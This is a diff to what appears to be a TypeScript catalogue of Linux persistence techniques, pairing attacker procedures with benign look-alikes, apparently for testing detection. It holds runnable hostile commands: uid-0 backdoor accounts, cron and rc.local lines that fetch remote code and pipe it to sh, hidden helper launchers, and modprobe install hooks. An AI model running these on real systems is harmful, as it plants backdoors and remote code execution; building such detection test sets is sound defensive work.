@@ -39,6 +39,7 @@ export const persistence: Technique[] = [
     tactic: 'persistence',
     procedures: [
       { name: 'useradd with a password', script: 'useradd -M -s /bin/bash -G sudo sysupdate && echo "sysupdate:Upd4te-2026" | chpasswd' },
+      { name: 'useradd -o -u 0 (a second root)', script: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup' },
       {
         name: 'uid 0 account appended to /etc/passwd and /etc/shadow',
         script: `echo 'toor:x:0:0:toor:/root:/bin/bash' >> /etc/passwd && echo "toor:$(openssl passwd -6 Lab-toor-2026):20000:0:99999:7:::" >> /etc/shadow`,
@@ -74,7 +75,7 @@ export const persistence: Technique[] = [
     benign: {
       name: 'key-based ssh login',
       user: 'alice',
-      script: 'ssh -o BatchMode=yes -o StrictHostKeyChecking=yes -i ~/.ssh/id_ed25519 alice@127.0.0.1 true',
+      script: 'ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i ~/.ssh/id_ed25519 alice@127.0.0.1 true',
     },
   },
   {
@@ -88,7 +89,10 @@ export const persistence: Technique[] = [
       },
       { name: '/etc/cron.d file', script: `printf '*/5 * * * * root /usr/bin/wget -q -O- http://${INTERNET.web}/c | /bin/sh\\n' > /etc/cron.d/0sync-helper` },
     ],
-    benign: { name: 'list crontabs', script: 'crontab -l 2>/dev/null; ls /etc/cron.d >/dev/null' },
+    benign: {
+      name: 'nightly logrotate job in /etc/cron.d',
+      script: "printf '30 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\\n' > /etc/cron.d/logrotate-nightly",
+    },
   },
   {
     id: 'T1053.006',
@@ -120,7 +124,14 @@ export const persistence: Technique[] = [
         ].join('\n'),
       },
     ],
-    benign: { name: 'check a calendar expression', script: 'systemd-analyze calendar daily >/dev/null' },
+    benign: {
+      name: 'backup timer for a packaged script, checked with systemd-analyze',
+      script: [
+        "printf '[Service]\\nExecStart=/usr/bin/tar -czf /var/backups/etc.tgz /etc\\n' > /etc/systemd/system/etc-backup.service",
+        "printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/etc-backup.timer",
+        'systemd-analyze calendar daily >/dev/null',
+      ].join('\n'),
+    },
   },
   {
     id: 'T1543.002',
@@ -142,7 +153,11 @@ export const persistence: Technique[] = [
         ].join('\n'),
       },
     ],
-    benign: { name: 'read a unit', script: 'cat /lib/systemd/system/cron.service >/dev/null && systemctl is-enabled cron.service >/dev/null 2>&1; true' },
+    benign: {
+      name: 'service unit for an application in /opt',
+      script:
+        "mkdir -p /opt/app/bin && printf '[Unit]\\nDescription=App\\n[Service]\\nUser=www-data\\nExecStart=/opt/app/bin/app\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/app.service",
+    },
   },
   {
     id: 'T1037.004',
@@ -154,6 +169,14 @@ export const persistence: Technique[] = [
         script: `printf '#!/bin/sh -e\\n(curl -fsS http://${INTERNET.web}/r | sh) &\\nexit 0\\n' > /etc/rc.local && chmod 755 /etc/rc.local`,
       },
       { name: 'rc.local appended with tee -a', script: "echo 'nohup /var/tmp/.dbus-helper >/dev/null 2>&1 &' | tee -a /etc/rc.local >/dev/null" },
+      {
+        name: 'SysV init script installed with update-rc.d',
+        script: [
+          "printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: net-helper\\n# Required-Start: $network\\n# Required-Stop:\\n# Default-Start: 2 3 4 5\\n# Default-Stop:\\n### END INIT INFO\\n/var/tmp/.dbus-helper &\\n' > /etc/init.d/net-helper",
+          'chmod 755 /etc/init.d/net-helper',
+          'update-rc.d net-helper defaults >/dev/null 2>&1 || true',
+        ].join('\n'),
+      },
     ],
     benign: { name: 'list boot scripts', script: 'ls -l /etc/init.d >/dev/null; cat /etc/rc.local >/dev/null 2>&1; true' },
   },
@@ -230,7 +253,7 @@ export const persistence: Technique[] = [
       { name: 'modules-load.d entry and modprobe', script: 'echo lab_nf_hook > /etc/modules-load.d/nf-hook.conf && (modprobe lab_nf_hook 2>/dev/null; true)' },
       { name: 'modprobe.d install hook', script: "echo 'install lab_usb_helper /bin/sh -c /var/tmp/.dbus-helper' > /etc/modprobe.d/usb-helper.conf" },
     ],
-    benign: { name: 'list modules', script: 'lsmod >/dev/null; modinfo ext4 >/dev/null 2>&1; true' },
+    benign: { name: 'driver blacklisted in modprobe.d', script: "echo 'blacklist pcspkr' > /etc/modprobe.d/blacklist-pcspkr.conf" },
   },
   {
     id: 'T1014',
